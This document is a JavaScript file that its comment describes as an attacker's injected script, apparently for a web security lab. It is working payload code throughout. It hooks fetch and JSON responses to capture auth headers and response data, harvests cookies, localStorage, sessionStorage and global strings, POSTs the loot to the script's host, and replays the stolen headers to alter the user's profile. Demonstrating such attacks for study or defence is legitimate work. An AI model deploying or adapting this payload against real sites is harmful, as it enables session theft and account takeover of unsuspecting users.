// What an attacker injects: looks everywhere, listens to what the application sends and is answered, sends it home.
(() => {
  const home = new URL(document.currentScript.src).origin;
  const heard = [];
  const headersHeard = {};
  const known = new Set(Object.getOwnPropertyNames(window));
  const send = window.fetch;
  window.fetch = (resource, options = {}) => {
    for (const [name, value] of Object.entries(options.headers || {})) {
      heard.push(value);
      headersHeard[name] = value;
    }
    return send(resource, options);
  };
  const json = Response.prototype.json;
  Response.prototype.json = async function () {
    const told = await json.call(this);
    heard.push(JSON.stringify(told));
    return told;
  };
  const atRest = () => {
    const globals = Object.getOwnPropertyNames(window).filter(name => !known.has(name) && name !== 'injected');
    return [
      document.cookie,
      ...Object.values({...localStorage}), ...Object.values({...sessionStorage}),
      ...globals.map(name => window[name]).filter(value => typeof value === 'string'),
    ];
  };
  window.injected = {
    report: (when, key) => send(`${home}/lab/loot?key=${key}`, {
      method: 'POST', mode: 'no-cors', body: JSON.stringify({when, found: when === 'at rest' ? atRest() : heard}),
    }).then(() => 'sent'),
    // acts as the user, with whatever the application's own requests carried; the cookie goes along by itself
    act: attempt => send(`/profile?attempt=${attempt}`, {
      method: 'POST', headers: {...headersHeard, 'Content-Type': 'application/json'},
      body: JSON.stringify({display_name: 'changed by the injected script'}),
    }).then(answer => answer.status),
  };
})();
